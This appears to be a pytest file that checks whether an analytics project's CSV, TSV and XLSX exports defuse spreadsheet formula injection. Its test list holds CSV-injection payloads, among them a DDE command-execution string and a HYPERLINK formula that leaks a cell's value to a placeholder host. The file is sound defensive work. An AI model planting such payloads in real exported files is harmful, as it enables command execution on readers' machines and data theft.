"""Formulas: no file of ours runs a stranger's text."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from analytics.exports.csv import csv_bytes
from analytics.exports.exported_table import Column, Section
from analytics.exports.tsv import tsv_text
from analytics.exports.xlsx import xlsx_bytes
from analytics.untrusted.spreadsheet import is_like_formula, safe

# The first characters that OWASP's page on CSV injection names, and what is used to hide them.
ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tcmd",
    "\rcmd",
    "\ncmd",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("http://example.org?leak="&A1)',
]
HARMLESS = ["BTC/USDT", "币安人生", "1000PEPE", "", "a=b", "long-short", "'quoted'", "a, b; c"]
NUMBERS = ["-5", "+5", "-0.25", "-1e-9", "-.5"]


def of_texts(texts):
    return Section("Names", pd.DataFrame({"name": texts}), (Column("name", "Name"),))


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_begins_like_a_formula_gets_an_apostrophe(text):
    """Nothing is taken away: what was sent can still be read."""
    assert safe(text).startswith("'")
    assert safe(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", HARMLESS + NUMBERS)
def test_other_text_stays_as_it_is(text):
    """A negative number is no formula, though it begins like one."""
    assert safe(text) == text
    assert not is_like_formula(text)


@pytest.mark.parametrize("text", ["a;=1+1", "a,  @SUM(1)", "a\n=1+1", 'x";=1+1', "a;＝1+1"])
def test_formula_after_a_separator_is_made_safe(text):
    """Where lists are separated by semicolons, a spreadsheet begins another cell there."""
    assert "'" in safe(text)


def test_csv_holds_no_formula():
    """Read back as a spreadsheet would: no cell begins with a sign."""
    rows = list(csv.reader(io.StringIO(csv_bytes(of_texts(ATTACKS)).decode("utf-8-sig"))))

    assert len(rows) == 1 + len(ATTACKS)
    assert all(cell.startswith("'") for (cell,) in rows[1:])


def test_tsv_holds_no_formula_and_no_break():
    """A cell that begins another line could begin it with a formula."""
    lines = tsv_text(of_texts(ATTACKS)).splitlines()

    assert len(lines) == 1 + len(ATTACKS)
    assert all(not is_like_formula(line) for line in lines)


def test_xlsx_holds_text_that_stays_text():
    """As a string with the mark that Excel itself gives to text it must not run."""
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([of_texts(ATTACKS)], {})))

    cells = [row[0] for row in book.worksheets[0].iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(ATTACKS)
    assert all(cell.quotePrefix for cell in cells)
    assert cells[0].value == "=1+1"


def test_headers_hold_no_formula():
    """The columns of a matrix are called after pairs, too."""
    section = Section("Matrix", pd.DataFrame({"x": [0.5]}), (Column("x", "=1+1"),))

    header, _ = csv.reader(io.StringIO(csv_bytes(section).decode("utf-8-sig")))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([section], {}))).worksheets[0]

    assert header == ["'=1+1"]
    assert tsv_text(section).splitlines()[0] == "'=1+1"
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("=1+1", "s")


def test_negative_numbers_stay_numbers():
    """A safe file that cannot be added up is of no use."""
    frame = pd.DataFrame({"value": [-3.5]})
    section = Section("Values", frame, (Column("value", "Value", "pct"),))

    assert csv_bytes(section).decode("utf-8-sig").splitlines()[1] == "-3.5"
    assert tsv_text(section).splitlines()[1] == "-3.5"
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([section], {}))).worksheets[0]
    assert (sheet["A2"].value, sheet["A2"].data_type) == (-3.5, "n")
